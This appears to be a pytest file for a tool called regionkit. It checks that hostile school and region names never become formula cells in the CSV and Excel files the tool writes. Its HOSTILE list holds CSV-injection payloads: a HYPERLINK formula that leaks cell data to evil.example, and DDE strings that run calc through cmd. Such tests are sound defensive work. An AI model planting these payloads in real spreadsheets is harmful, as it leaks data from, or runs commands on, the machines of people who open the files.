"""Hostile names from users' files never become formulas in the CSV and Excel files written.

Region, school, place and partner names that start like a formula go through every writer
(``run``, ``check``, ``fund``, ``match``, ``compare``); every xlsx written holds no formula cell,
every CSV no cell a spreadsheet would read as one (OWASP: a leading ``=``, ``+``, ``-``, ``@``,
tab or carriage return); regionkit's readers read its own files back as they were.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner, Result

from regionkit._spreadsheet import neutralise_frame, restore_frame
from regionkit.cli import cli
from regionkit.schools import load_schools, write_schools

#: What an attacker writes into a name (the probe's own examples among them).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
#: A cell a spreadsheet reads as a number is not a formula.
_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def _invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=True)


def _formula_cells_in_csv(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [
        c
        for c in cells
        if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _NUMBER.fullmatch(c)
    ]


def _formula_cells_in_xlsx(path: Path) -> list[str]:
    """Formula cells, read from the sheets' XML itself (``<f>`` elements) and by openpyxl."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as archive:
        xml = [
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        ]
    found = [m for text in xml for m in re.findall(r"<f>.*?</f>", text)]
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        found += [str(c.value) for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return found


def _scan(folder: Path) -> tuple[int, int]:
    """Assert no formula anywhere under ``folder``; return the CSV and xlsx files scanned."""
    csvs, books = sorted(folder.rglob("*.csv")), sorted(folder.rglob("*.xlsx"))
    for path in csvs:
        assert _formula_cells_in_csv(path) == [], path.name
    for path in books:
        assert _formula_cells_in_xlsx(path) == [], path.name
    return len(csvs), len(books)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A schools table, a proposal and a list of names, all with hostile names."""
    base = tmp_path_factory.mktemp("hostile")
    schools = load_schools()
    rmc = schools[schools["kind"] == "vmbo"].groupby("rmc_name", sort=True)
    members = [group["code"].tolist() for _, group in rmc][:7]
    table = schools.copy()
    for k, codes in enumerate(members):
        table.loc[table["code"] == codes[0], "name"] = HOSTILE[k]
        table.loc[table["code"] == codes[0], "place"] = HOSTILE[-1 - k]
    write_schools(table, base / "schools.csv")
    rows = []
    for k, codes in enumerate(members):
        rows += [(HOSTILE[k], code, "school", "") for code in codes]
        rows.append((HOSTILE[k], "", "mbo", HOSTILE[-1 - k]))
    proposal = pd.DataFrame(rows, columns=["region", "code", "role", "name"])
    proposal.to_csv(base / "proposal.csv", index=False, quoting=csv.QUOTE_ALL)
    names = pd.DataFrame(
        {"region": HOSTILE, "name": HOSTILE, "place": HOSTILE[::-1]}
    )  # names no school has: unresolved, listed with candidates
    names.loc[len(names)] = [
        HOSTILE[0],
        table.loc[table["code"] == members[1][0], "name"].iloc[0],
        "",
    ]
    names.to_csv(base / "names.csv", index=False, quoting=csv.QUOTE_ALL)
    return {
        "base": base,
        "schools": base / "schools.csv",
        "proposal": base / "proposal.csv",
        "names": base / "names.csv",
    }


def test_every_writer_is_spreadsheet_safe(hostile: dict[str, Path]) -> None:
    base, schools, proposal = hostile["base"], str(hostile["schools"]), str(hostile["proposal"])
    out = base / "out"
    runs = {
        "run": [
            "run",
            "--schools",
            schools,
            "--proposal",
            proposal,
            "--out",
            str(out / "run"),
            "--no-national-map",
        ],
        "check": ["check", proposal, "--schools", schools, "--out", str(out / "check")],
        "fund": ["fund", proposal, "--schools", schools, "--out", str(out / "fund")],
        "match": [
            "match",
            str(hostile["names"]),
            "--schools",
            schools,
            "--out",
            str(out / "match" / "matched.csv"),
        ],
        "compare": [
            "compare",
            proposal,
            "division:rmc",
            "--schools",
            schools,
            "--out",
            str(out / "compare"),
        ],
    }
    for command, args in runs.items():
        result = _invoke("-q", *args)
        assert result.exit_code in (0, 1), (command, result.output)
        n_csv, _ = _scan(out / command)
        assert n_csv >= 1, command
    assert _scan(out) == (12, 2)  # 5 + 2 + 2 + 1 + 2 CSV files; report.xlsx, funding.xlsx
    # the names are there, neutralised, not dropped
    regions = (out / "run" / "regions.csv").read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in regions
    from openpyxl import load_workbook

    sheet = load_workbook(out / "run" / "report.xlsx")["regions"]
    assert HOSTILE[1] in [c.value for row in sheet.iter_rows() for c in row]  # as text
    # regionkit reads its own proposal.csv back with the names as they were
    import json

    def summary(path: Path) -> dict[str, object]:
        result = _invoke("-q", "check", str(path), "--schools", schools, "--json")
        assert result.exit_code in (0, 1), result.output
        data = json.loads(result.output)
        return {k: data[k] for k in ("n_regions", "n_schools_listed", "by_rule_severity")}

    assert summary(out / "run" / "proposal.csv") == summary(hostile["proposal"])


def test_machine_consumers_can_turn_it_off(hostile: dict[str, Path]) -> None:
    base = hostile["base"]
    config = base / "machine.toml"
    config.write_text("[output]\nneutralise_csv_formulas = false\n")
    out = base / "machine"
    args = ["fund", str(hostile["proposal"]), "--schools", str(hostile["schools"])]
    result = _invoke("-q", *args, "--config", str(config), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "=cmd|' /C calc'!A0" in _formula_cells_in_csv(out / "funding_regions.csv")
    assert _formula_cells_in_xlsx(out / "funding.xlsx") == []  # a workbook never holds one


def test_neutralise_and_restore_are_inverse() -> None:
    table = pd.DataFrame({"name": [*HOSTILE, "'s-Hertogenbosch", "Twente", None], "n": range(10)})
    safe = neutralise_frame(table)
    assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in safe["name"])
    assert safe["name"].iloc[7] == "'s-Hertogenbosch"  # not a formula: left as it is
    assert restore_frame(safe).equals(table)
